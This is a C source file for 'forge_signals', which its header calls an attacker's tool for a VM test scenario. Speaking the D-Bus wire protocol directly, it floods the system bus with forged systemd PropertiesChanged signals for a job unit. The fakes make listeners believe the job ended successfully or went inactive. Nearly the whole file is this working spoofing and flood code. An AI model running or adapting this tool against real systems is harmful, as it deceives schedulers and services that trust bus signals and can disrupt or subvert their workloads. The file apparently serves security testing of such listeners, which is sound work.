/* forge_signals: an attacker's tool for VM scenario 23. Connects to the system bus as
 * the calling user and sends systemd-shaped PropertiesChanged signals for the unit of job
 * JOB, addressed to DEST (a unique name, or "-" to broadcast), COUNT times, as fast as the
 * bus takes them. A plain client speaking the wire protocol (busctl starts a process per
 * signal: far too slow for a flood under TCG).
 *
 *   forge_signals DEST JOB COUNT end        Service (Result=success, exit 0), then Unit
 *                                          (active/exited): what a job's end looks like
 *   forge_signals DEST JOB COUNT inactive   Unit (inactive/dead, no job queued): what
 *                                          makes a listener read the unit from systemd
 * Each of COUNT rounds sends one signal ("inactive") or two ("end"). Exit 0 once all were
 * written and a final round trip (GetId) came back, so they reached the bus. */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

struct buf {
    uint8_t *p;
    size_t len, cap;
};

static void put(struct buf *b, const void *d, size_t n) {
    if (b->len + n > b->cap) {
        b->cap = (b->len + n) * 2 + 64;
        b->p = realloc(b->p, b->cap);
        if (!b->p) { perror("realloc"); exit(1); }
    }
    memcpy(b->p + b->len, d, n);
    b->len += n;
}
static void pad(struct buf *b, size_t a) {
    static const uint8_t z[8];
    if (b->len % a) put(b, z, a - b->len % a);
}
static void u8(struct buf *b, uint8_t v) { put(b, &v, 1); }
static void u32(struct buf *b, uint32_t v) { pad(b, 4); put(b, &v, 4); }
static void i32(struct buf *b, int32_t v) { pad(b, 4); put(b, &v, 4); }
static void str(struct buf *b, const char *s) { u32(b, strlen(s)); put(b, s, strlen(s) + 1); }
static void sig(struct buf *b, const char *s) { u8(b, strlen(s)); put(b, s, strlen(s) + 1); }

/* Array: reserve the length, align to the elements, return the start. */
static size_t array_open(struct buf *b, size_t *len_at, size_t align) {
    u32(b, 0);
    *len_at = b->len - 4;
    pad(b, align);
    return b->len;
}
static void array_close(struct buf *b, size_t len_at, size_t start) {
    uint32_t n = b->len - start;
    memcpy(b->p + len_at, &n, 4);
}

static void field(struct buf *b, uint8_t code, const char *type, const char *value) {
    pad(b, 8);
    u8(b, code);
    sig(b, type);
    if (type[0] == 'g') sig(b, value);
    else str(b, value);
}

static uint32_t serial = 1;

/* One message: type 1 = method call, 4 = signal. */
static void message(int fd, uint8_t type, const char *path, const char *iface,
                    const char *member, const char *dest, const char *signature,
                    const struct buf *body) {
    struct buf m = {0};
    size_t len_at, start;
    u8(&m, 'l'); u8(&m, type); u8(&m, 0); u8(&m, 1);
    u32(&m, body ? body->len : 0);
    u32(&m, serial++);
    start = array_open(&m, &len_at, 8);
    field(&m, 1, "o", path);
    field(&m, 2, "s", iface);
    field(&m, 3, "s", member);
    if (dest) field(&m, 6, "s", dest);
    if (signature) field(&m, 8, "g", signature);
    array_close(&m, len_at, start);
    pad(&m, 8);
    if (body) put(&m, body->p, body->len);
    size_t off = 0;
    while (off < m.len) {
        ssize_t w = write(fd, m.p + off, m.len - off);
        if (w <= 0) { perror("write to the bus"); exit(1); }
        off += w;
    }
    free(m.p);
}

/* Body of PropertiesChanged (sa{sv}as) for interface `iface`. */
static void changed(struct buf *b, int service, int inactive) {
    size_t len_at, start;
    str(b, service ? "org.freedesktop.systemd1.Service" : "org.freedesktop.systemd1.Unit");
    start = array_open(b, &len_at, 8);
    if (service) {
        pad(b, 8); str(b, "Result"); sig(b, "s"); str(b, "success");
        pad(b, 8); str(b, "ExecMainCode"); sig(b, "i"); i32(b, 1);
        pad(b, 8); str(b, "ExecMainStatus"); sig(b, "i"); i32(b, 0);
    } else {
        pad(b, 8); str(b, "ActiveState"); sig(b, "s"); str(b, inactive ? "inactive" : "active");
        pad(b, 8); str(b, "SubState"); sig(b, "s"); str(b, inactive ? "dead" : "exited");
        pad(b, 8); str(b, "InvocationID"); sig(b, "ay"); u32(b, 0);
        pad(b, 8); str(b, "Job"); sig(b, "(uo)"); pad(b, 8); u32(b, 0); str(b, "/");
    }
    array_close(b, len_at, start);
    u32(b, 0); /* as: no invalidated properties */
}

static void read_line(int fd, char *line, size_t cap) {
    size_t n = 0;
    while (n + 1 < cap) {
        ssize_t r = read(fd, line + n, 1);
        if (r <= 0) { perror("read from the bus"); exit(1); }
        if (line[n++] == '\n') break;
    }
    line[n] = 0;
}

int main(int argc, char **argv) {
    if (argc != 5 || (strcmp(argv[4], "end") && strcmp(argv[4], "inactive"))) {
        fprintf(stderr, "usage: forge_signals DEST|- JOB COUNT end|inactive\n");
        return 2;
    }
    const char *dest = strcmp(argv[1], "-") ? argv[1] : NULL;
    long count = atol(argv[3]);
    int end = !strcmp(argv[4], "end");
    char path[128];
    snprintf(path, sizeof path, "/org/freedesktop/systemd1/unit/xlurm_2djob_2d%s_2eservice", argv[2]);

    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    const char *addr = getenv("DBUS_SYSTEM_BUS_ADDRESS");
    if (addr && !strncmp(addr, "unix:path=", 10))
        snprintf(sa.sun_path, sizeof sa.sun_path, "%.*s", (int)strcspn(addr + 10, ","), addr + 10);
    else
        strcpy(sa.sun_path, "/run/dbus/system_bus_socket");
    if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
        perror("connect to the system bus");
        return 1;
    }
    char uid[32], auth[128], line[256];
    snprintf(uid, sizeof uid, "%u", (unsigned)getuid());
    int n = snprintf(auth, sizeof auth, "%cAUTH EXTERNAL ", 0);
    for (char *c = uid; *c; c++) n += snprintf(auth + n, sizeof auth - n, "%02x", *c);
    n += snprintf(auth + n, sizeof auth - n, "\r\n");
    if (write(fd, auth, n) != n) { perror("auth"); return 1; }
    read_line(fd, line, sizeof line);
    if (strncmp(line, "OK ", 3)) { fprintf(stderr, "auth refused: %s", line); return 1; }
    if (write(fd, "BEGIN\r\n", 7) != 7) { perror("begin"); return 1; }
    message(fd, 1, "/org/freedesktop/DBus", "org.freedesktop.DBus", "Hello",
            "org.freedesktop.DBus", NULL, NULL);

    struct buf service = {0}, unit = {0};
    changed(&service, 1, 0);
    changed(&unit, 0, !end);
    for (long i = 0; i < count; i++) {
        if (end)
            message(fd, 4, path, "org.freedesktop.DBus.Properties", "PropertiesChanged", dest,
                    "sa{sv}as", &service);
        message(fd, 4, path, "org.freedesktop.DBus.Properties", "PropertiesChanged", dest,
                "sa{sv}as", &unit);
    }
    /* A round trip: the bus answers in order, so every signal above was taken. Replies
     * (Hello, NameAcquired, GetId) are read until the GetId reply's serial comes. */
    uint32_t want = serial;
    message(fd, 1, "/org/freedesktop/DBus", "org.freedesktop.DBus", "GetId",
            "org.freedesktop.DBus", NULL, NULL);
    for (;;) {
        uint8_t h[16];
        size_t got = 0;
        while (got < 16) {
            ssize_t r = read(fd, h + got, 16 - got);
            if (r <= 0) { fprintf(stderr, "the bus closed the connection\n"); return 1; }
            got += r;
        }
        uint32_t body_len, fields_len;
        memcpy(&body_len, h + 4, 4);
        memcpy(&fields_len, h + 12, 4);
        size_t rest = ((fields_len + 7) & ~7u) + body_len;
        uint8_t *m = malloc(rest + 1);
        got = 0;
        while (got < rest) {
            ssize_t r = read(fd, m + got, rest - got);
            if (r <= 0) { fprintf(stderr, "the bus closed the connection\n"); return 1; }
            got += r;
        }
        /* Find REPLY_SERIAL (code 5, "u") among the header fields. */
        size_t off = 0;
        int done = 0;
        while (off + 4 <= fields_len) {
            uint8_t code = m[off];
            uint8_t slen = m[off + 1];
            size_t v = off + 2 + slen + 1; /* after the signature */
            const char *t = (const char *)m + off + 2;
            size_t abs = 16 + v, vlen;
            if (t[0] == 'u') { abs = (abs + 3) & ~3u; vlen = 4; }
            else if (t[0] == 'g') { vlen = 1 + m[abs - 16] + 1; }
            else { abs = (abs + 3) & ~3u; uint32_t l; memcpy(&l, m + abs - 16, 4); vlen = 4 + l + 1; }
            if (code == 5 && t[0] == 'u') {
                uint32_t rs;
                memcpy(&rs, m + abs - 16, 4);
                if (rs == want) done = 1;
            }
            off = ((abs - 16 + vlen) + 7) & ~7u;
        }
        free(m);
        if (done) break;
    }
    printf("sent %ld %s round(s) for job %s to %s\n", count, argv[4], argv[2], dest ? dest : "everyone");
    return 0;
}
